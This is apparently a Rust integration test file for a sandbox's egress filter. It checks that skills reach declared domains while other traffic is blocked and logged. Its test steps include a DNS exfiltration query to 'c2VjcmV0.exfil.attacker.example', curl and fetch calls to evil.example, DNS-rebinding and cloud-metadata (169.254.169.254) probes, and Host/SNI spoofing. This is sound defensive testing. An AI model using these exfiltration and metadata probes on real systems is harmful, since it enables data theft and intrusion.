//! Egress filtering through the real binary (DESIGN.md §4): a loopback HTTP server on
//! the host stands in for the internet, a hosts-format override file stands in for
//! public DNS, and clients that know nothing about proxies (Python urllib, raw
//! sockets, curl, Node `fetch`) run inside the sandbox. Declared names work; every
//! other attempt fails fast and is reported with its destination.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::time::Duration;

use serde_json::json;

use crate::escape::{payload_dir, Lab, Outcome};

/// A plain HTTP server on the host's loopback that answers every request with
/// `hello-from-host`, for a bounded number of connections.
fn http_server() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for conn in l.incoming().take(64) {
            let Ok(mut c) = conn else { continue };
            let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
            let mut buf = [0u8; 4096];
            let _ = c.read(&mut buf);
            let _ = c.write_all(
                b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 15\r\n\r\nhello-from-host",
            );
        }
    });
    port
}

fn skill(lab: &Lab, egress: &str, command: &str, args: &[String]) -> std::path::PathBuf {
    let dir = lab.path("net-skill");
    std::fs::create_dir_all(&dir).unwrap();
    let args = serde_json::to_string(args).unwrap();
    let manifest = format!(
        "skill: {{name: net-skill, version: \"0.1.0\"}}\n\
         permissions:\n  network:\n    egress:\n{egress}\n  filesystem:\n    read: [{payloads}]\n\
         resources: {{max_runtime_seconds: 60}}\n\
         entrypoint:\n  command: {command}\n  args: {args}\n",
        payloads = payload_dir().display()
    );
    std::fs::write(dir.join("skillsandbox.yaml"), manifest).unwrap();
    dir
}

fn run(lab: &Lab, dir: &Path, hosts: &str) -> Outcome {
    let hosts_file = lab.path("hosts");
    std::fs::write(&hosts_file, hosts).unwrap();
    Outcome::from(
        lab.cmd()
            .env("SKILLSANDBOX_EGRESS_HOSTS", &hosts_file)
            .args(["run", "--json"])
            .arg(dir)
            .output()
            .unwrap(),
    )
}

/// Runs the payload `net.py` with `steps` under `egress`, names resolved by `hosts`;
/// the skill's directory and the finished outcome.
fn net_steps(
    lab: &Lab,
    egress: &str,
    steps: &serde_json::Value,
    hosts: &str,
) -> (std::path::PathBuf, Outcome) {
    let args = vec![
        payload_dir().join("net.py").display().to_string(),
        steps.to_string(),
    ];
    let dir = skill(lab, egress, "python3", &args);
    let o = run(lab, &dir, hosts);
    o.assert_done("NET_DONE");
    (dir, o)
}

fn step<'a>(o: &'a Outcome, name: &str) -> &'a str {
    o.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&format!("STEP {name} ")))
        .unwrap_or_else(|| panic!("no step {name}:\n{}", o.dump()))
}

#[test]
fn declared_names_work_and_everything_else_is_refused_and_reported() {
    let Some(lab) = Lab::new() else { return };
    let port = http_server();
    let other = http_server(); // a host loopback service nobody declared
    let egress = [
        format!("      - domain: good.test\n        ports: [{port}]"),
        format!("      - domain: rebind.test\n        ports: [{port}]"),
        "      - domain: meta.test\n        ports: [80]".to_string(),
        format!("      - cidr: 127.0.0.1/32\n        ports: [{port}]"),
    ]
    .join("\n");
    let steps = json!([
        ["http", "urlopen_declared", "good.test", port],
        ["raw_http", "raw_declared", "good.test", port],
        ["resolve", "resolve_declared", "good.test"],
        ["resolve", "resolve_undeclared", "evil.example"],
        [
            "http",
            "undeclared_port",
            "good.test",
            port.wrapping_add(1).max(1)
        ],
        [
            "raw_http",
            "host_header_mismatch",
            "good.test",
            port,
            "evil.example"
        ],
        ["tls", "sni_mismatch", "good.test", port, "evil.example"],
        ["raw_http", "ipv4_literal", "10.1.2.3", port],
        ["raw_http", "ipv6_literal", "2001:db8::1", port],
        ["http", "rebinding_to_loopback", "rebind.test", port],
        ["http", "metadata_address", "meta.test", 80],
        ["raw_http", "host_loopback_service", "127.0.0.1", other],
        [
            "raw_dns",
            "dns_exfil_udp_v4",
            "8.8.8.8",
            "c2VjcmV0.exfil.attacker.example"
        ],
        [
            "raw_dns",
            "dns_exfil_udp_v6",
            "2001:4860:4860::8888",
            "c2VjcmV0.exfil.attacker.example"
        ],
        ["udp", "quic_udp_443", "1.1.1.1", 443],
        ["raw", "raw_socket"]
    ]);
    let (_, o) = net_steps(
        &lab,
        &egress,
        &steps,
        "127.0.0.1 good.test\n127.0.0.2 rebind.test\n169.254.169.254 meta.test\n",
    );
    let d = o.dump();

    assert!(
        step(&o, "urlopen_declared").starts_with("OK hello-from-host"),
        "{d}"
    );
    assert!(
        step(&o, "raw_declared").starts_with("OK HTTP/1.0_200"),
        "{d}"
    );
    assert!(
        step(&o, "resolve_declared").contains("198.18."),
        "synthetic v4: {d}"
    );
    assert!(
        step(&o, "resolve_declared").contains("fd5b:"),
        "synthetic v6: {d}"
    );
    for blocked in [
        "resolve_undeclared",
        "undeclared_port",
        "host_header_mismatch",
        "sni_mismatch",
        "ipv4_literal",
        "ipv6_literal",
        "rebinding_to_loopback",
        "metadata_address",
        "host_loopback_service",
        "dns_exfil_udp_v4",
        "dns_exfil_udp_v6",
        "quic_udp_443",
        "raw_socket",
    ] {
        assert!(
            step(&o, blocked).starts_with("FAIL"),
            "BREACH {blocked}: {d}"
        );
    }

    let v = o.violations();
    let has =
        |kind: &str, needle: &str| v.iter().any(|x| x.starts_with(kind) && x.contains(needle));
    assert!(has("dns_blocked", "evil.example"), "{d}");
    // Names are recorded lower-cased (DNS is case-insensitive).
    assert!(has("dns_blocked", "c2vjcmv0.exfil.attacker.example"), "{d}");
    assert!(
        has("domain_mismatch", "evil.example"),
        "Host/SNI mismatch: {d}"
    );
    assert!(has("network_blocked", "10.1.2.3"), "{d}");
    assert!(has("network_blocked", "2001:db8::1"), "{d}");
    assert!(has("rebinding_blocked", "rebind.test"), "{d}");
    assert!(has("rebinding_blocked", "meta.test"), "{d}");

    // Every connection is in the trace with its decision; the allowed ones moved bytes.
    let conns = o.json["network"]["connections"].as_array().unwrap();
    assert!(conns.iter().any(|c| c["name"] == "good.test"
        && c["decision"] == "allowed"
        && c["real_addr"] == "127.0.0.1"
        && c["bytes_in"].as_u64().unwrap_or(0) > 0));
    assert!(conns
        .iter()
        .any(|c| c["dest"] == "10.1.2.3" && c["decision"] == "blocked"));
}

#[test]
fn clients_that_ignore_proxies_work_for_declared_names_and_fail_fast_otherwise() {
    let Some(lab) = Lab::new() else { return };
    let port = http_server();
    let egress = [
        format!("      - domain: good.test\n        ports: [{port}]"),
        format!("      - cidr: 127.0.0.1/32\n        ports: [{port}]"),
    ]
    .join("\n");
    let node = Path::new("/usr/bin/node").exists();
    let script = format!(
        "curl -s --max-time 5 http://good.test:{port}/ && echo ' CURL_OK'; \
         curl -s --max-time 5 http://evil.example:{port}/ || echo CURL_BLOCKED; {}",
        if node {
            format!(
                "node -e 'fetch(\"http://good.test:{port}/\").then(r=>r.text()).then(t=>console.log(\"NODE_OK\",t))\
                 .catch(e=>console.log(\"NODE_FAIL\",e.cause&&e.cause.code))'; \
                 node -e 'fetch(\"http://evil.example:{port}/\").then(()=>console.log(\"NODE_BREACH\"))\
                 .catch(e=>console.log(\"NODE_BLOCKED\",e.cause&&e.cause.code))'"
            )
        } else {
            String::new()
        }
    );
    let dir = skill(&lab, &egress, "sh", &["-c".to_string(), script]);
    let started = std::time::Instant::now();
    let o = run(&lab, &dir, "127.0.0.1 good.test\n");
    let d = o.dump();
    assert!(o.stdout.contains("hello-from-host CURL_OK"), "{d}");
    assert!(o.stdout.contains("CURL_BLOCKED"), "{d}");
    if node {
        assert!(o.stdout.contains("NODE_OK hello-from-host"), "{d}");
        assert!(o.stdout.contains("NODE_BLOCKED"), "{d}");
        assert!(!o.stdout.contains("NODE_BREACH"), "{d}");
    }
    // Fail fast, not hang: well under the clients' own timeouts added up.
    assert!(started.elapsed() < Duration::from_secs(20), "{d}");
}

#[test]
fn allow_private_resolution_lets_one_name_reach_its_mirror_but_never_the_metadata_service() {
    let Some(lab) = Lab::new() else { return };
    let port = http_server();
    // No cidr rule: only the flag lets mirror.test reach loopback.
    let egress = [
        format!("      - domain: mirror.test\n        ports: [{port}]\n        allow_private_resolution: true"),
        format!("      - domain: plain.test\n        ports: [{port}]"),
        "      - domain: meta.test\n        ports: [80]\n        allow_private_resolution: true"
            .to_string(),
    ]
    .join("\n");
    let steps = json!([
        ["http", "mirror", "mirror.test", port],
        ["http", "plain", "plain.test", port],
        ["http", "metadata", "meta.test", 80]
    ]);
    let (dir, o) = net_steps(
        &lab,
        &egress,
        &steps,
        "127.0.0.1 mirror.test plain.test\n169.254.169.254 meta.test\n",
    );
    let d = o.dump();
    assert!(step(&o, "mirror").starts_with("OK hello-from-host"), "{d}");
    assert!(step(&o, "plain").starts_with("FAIL"), "BREACH plain: {d}");
    assert!(
        step(&o, "metadata").starts_with("FAIL"),
        "BREACH metadata: {d}"
    );
    let v = o.violations();
    assert!(
        v.iter()
            .any(|x| x.starts_with("rebinding_blocked") && x.contains("plain.test")),
        "{d}"
    );
    assert!(
        v.iter().any(|x| x.starts_with("rebinding_blocked")
            && x.contains("meta.test")
            && x.contains("never reachable by name")),
        "{d}"
    );
    // The address it resolved to is in the trace.
    let conns = o.json["network"]["connections"].as_array().unwrap();
    assert!(
        conns.iter().any(|c| c["name"] == "mirror.test"
            && c["decision"] == "allowed"
            && c["real_addr"] == "127.0.0.1"
            && c["reason"]
                .as_str()
                .unwrap_or("")
                .contains("127.0.0.1 (loopback)")),
        "{d}"
    );

    // validate warns about the flag; a cidr rule cannot carry it.
    let lint = Outcome::from(lab.cmd().arg("validate").arg(&dir).output().unwrap());
    assert!(
        lint.everything().contains("private-resolution"),
        "{}",
        lint.dump()
    );
    let bad = lab.path("bad-private");
    std::fs::create_dir_all(&bad).unwrap();
    std::fs::write(
        bad.join("skillsandbox.yaml"),
        "skill: {name: bad, version: \"0.1.0\"}\npermissions:\n  network:\n    egress:\n      - cidr: 10.0.0.0/8\n        allow_private_resolution: true\nentrypoint: {command: \"true\"}\n",
    )
    .unwrap();
    let v = Outcome::from(lab.cmd().arg("validate").arg(&bad).output().unwrap());
    assert_ne!(v.exit_code, 0, "{}", v.dump());
    assert!(
        v.everything().contains(
            "skillsandbox.yaml:6:35: permissions.network.egress[0].allow_private_resolution"
        ),
        "{}",
        v.dump()
    );
}

/// `exec --tier TIER --json` of `script` (sh) with no network declared: its JSON.
fn deny_all(tier: &str, script: &str) -> serde_json::Value {
    let mut c = crate::common::skillsandbox();
    c.args(["exec", "--tier", tier, "--json", "--", "sh", "-c", script]);
    let out = c.output().unwrap();
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
}

fn network_violations(o: &serde_json::Value) -> Vec<String> {
    o["violations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|v| v["kind"] == "network_blocked")
        .map(|v| v["detail"].as_str().unwrap().to_string())
        .collect()
}

/// With no network declared there is no egress service, and the attempts used to go
/// unrecorded: now every `connect` or addressed `sendto` to another host is a
/// `network_blocked` violation naming the destination and the program, and still
/// fails. The container tier's own loopback is the sandbox's (not recorded); the
/// process tier's is the host's (recorded, and a host service is not reached).
#[test]
fn with_no_network_declared_attempts_to_reach_a_host_are_recorded() {
    let host = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = host.local_addr().unwrap().port();
    host.set_nonblocking(true).unwrap();
    let script = format!(
        "python3 -c '
import socket
for a in ((\"192.0.2.7\", 443), (\"127.0.0.1\", {port})):
    try:
        socket.create_connection(a, timeout=2); print(\"reached\", a[0])
    except OSError as e:
        print(\"failed\", a[0])
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b\"q\", (\"198.51.100.9\", 53)); print(\"sent\")
except OSError:
    print(\"udp refused\")
'"
    );
    let o = deny_all("container", &script);
    assert_eq!(
        o["stdout"].as_str().unwrap(),
        "failed 192.0.2.7\nfailed 127.0.0.1\nudp refused\n",
        "{o}"
    );
    let v = network_violations(&o);
    assert_eq!(v.len(), 2, "{v:?}");
    assert!(
        v[0].starts_with("connect to 192.0.2.7:443 by /usr/bin/python3"),
        "{v:?}"
    );
    assert!(
        v[1].starts_with("sendto to 198.51.100.9:53 by /usr/bin/python3"),
        "{v:?}"
    );
    assert!(v
        .iter()
        .all(|d| d.ends_with("refused: the manifest declares no network")));

    let o = deny_all("process", &script);
    let out = o["stdout"].as_str().unwrap();
    assert!(
        out.starts_with("failed 192.0.2.7\nfailed 127.0.0.1\n"),
        "{o}"
    );
    assert!(host.accept().is_err(), "the host's service was reached");
    let v = network_violations(&o);
    assert!(
        v.iter().any(|d| d.starts_with("connect to 192.0.2.7:443")),
        "{v:?}"
    );
    assert!(
        v.iter()
            .any(|d| d.starts_with(&format!("connect to 127.0.0.1:{port}"))),
        "{v:?}"
    );
}
